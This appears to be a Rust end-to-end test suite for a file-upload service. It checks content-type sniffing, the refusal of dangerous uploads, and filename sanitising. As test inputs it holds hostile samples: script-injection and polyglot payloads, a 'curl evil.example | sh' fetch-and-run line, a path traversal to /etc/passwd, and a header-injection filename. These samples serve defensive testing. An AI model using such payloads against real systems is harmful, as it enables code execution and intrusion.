//! What a file is says its content; what it is called is only a name.

use e2e::{PDF, both, code, data, json};

use super::reporting;

const DOCX: &[u8] = include_bytes!("wells.docx");
const ODS: &[u8] = include_bytes!("wells.ods");
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";

both!(what_is_taken_is_known_by_its_content, |world| async move {
    let (founded, _) = reporting(&world).await;
    let orchard = founded.member("Orchard");
    for (name, bytes, kind) in [
        ("Report.pdf", PDF, "application/pdf"),
        ("Tap", PNG, "image/png"),
        ("Tap.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01", "image/jpeg"),
        ("Tap.webp", b"RIFF\x1a\0\0\0WEBPVP8L", "image/webp"),
        ("Notes.html", b"Twelve wells.\n", "text/plain; charset=utf-8"),
        ("Wells.csv", "place;wells\nh\u{f8}jen;3\n".as_bytes(), "text/csv; charset=utf-8"),
        ("Wells.zip", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("Wells.ods", ODS, "application/vnd.oasis.opendocument.spreadsheet"),
    ] {
        let id = world.stored(orchard, name, bytes).await;
        let file = world.file(orchard, &id).await;
        assert_eq!((&file["contentType"], &file["name"]), (&json!(kind), &json!(name)));
        let fetched = world.fetch(&world.link(orchard, &id).await).await;
        assert_eq!(fetched.headers()["content-type"], kind);
    }
});

both!(what_a_browser_or_a_computer_would_run_is_refused_whatever_it_is_called, |world| async move {
    let (founded, _) = reporting(&world).await;
    let orchard = founded.member("Orchard");
    let polyglot = [&b"GIF89a/*"[..], b"<script>alert(document.domain)</script>", b"*/=1;\n%PDF-1.7\n%%EOF"].concat();
    for (name, bytes) in [
        ("report.pdf", &b"<!DOCTYPE html><html><body onload=alert(1)>%PDF-1.7"[..]),
        ("report.pdf", &polyglot),
        ("tap.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("tap.svg", b"<?xml version=\"1.0\"?>\n<svg/>"),
        ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("report.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
        ("photos.zip", include_bytes!("page.zip")),
        ("wells.docx", include_bytes!("page.zip")),
        ("wells.docx", include_bytes!("macros.docm")),
        ("wells.docx", &[DOCX, b"<script>"].concat()),
        ("wells.csv", b"\x1f\x8b\x08\0\0\0\0\0"),
        ("wells.csv", b"place;wells\nh\xf8jen;3\n"),
        ("anything", b"\0\x01\x02\x03"),
    ] {
        let (id, url) = world.target(orchard, name, bytes.len()).await;
        let (status, said) = world.send_bytes(&url, bytes.to_vec()).await;
        assert_eq!((status, code(&said)), (415, "FILE_TYPE_REFUSED"), "{name}: {said}");
        let file = world.file(orchard, &id).await;
        assert_eq!((file["state"].as_str(), &file["download"]), (Some("AWAITED"), &json!(null)));
        assert_eq!(world.kept_objects(), Vec::<std::path::PathBuf>::new(), "{name}");
        // Only so many may wait at a time.
        world.clock.advance(chrono::TimeDelta::minutes(16));
    }
});

both!(a_name_is_shown_and_never_a_path_nor_a_header, |world| async move {
    let (founded, _) = reporting(&world).await;
    let orchard = founded.member("Orchard");
    for (given, kept, header) in [
        ("../../../etc/passwd", "passwd", "attachment; filename=\"passwd.pdf\"; filename*=UTF-8''passwd.pdf"),
        (
            "C:\\wells\\a \"b\"; c.pdf",
            "a \"b\"; c.pdf",
            "attachment; filename=\"a _b__ c.pdf\"; filename*=UTF-8''a%20%22b%22%3B%20c.pdf",
        ),
        ("井戸.pdf", "井戸.pdf", "attachment; filename=\"__.pdf\"; filename*=UTF-8''%E4%BA%95%E6%88%B8.pdf"),
        ("wells.exe", "wells.exe", "attachment; filename=\"wells.exe.pdf\"; filename*=UTF-8''wells.exe.pdf"),
    ] {
        let id = world.stored(orchard, given, PDF).await;
        assert_eq!(world.file(orchard, &id).await["name"], kept);
        let fetched = world.fetch(&world.link(orchard, &id).await).await;
        assert_eq!(fetched.headers()["content-disposition"], header);
    }
    let strange = world.kept_objects().into_iter().find(|path| path.to_string_lossy().contains("passwd"));
    assert_eq!(strange, None);
    for bad in ["", " ", "a\r\nSet-Cookie: b=c", "nul\0.pdf", "cod\u{202e}fdp.exe", "..", "a/", &"é".repeat(201)] {
        let refused = world.announce(orchard, bad, 7).await;
        assert_eq!((code(&refused), &refused["errors"][0]["extensions"]["field"]), ("INVALID_INPUT", &json!("name")));
    }
    data(world.announce(orchard, &"é".repeat(200), 7).await);
});
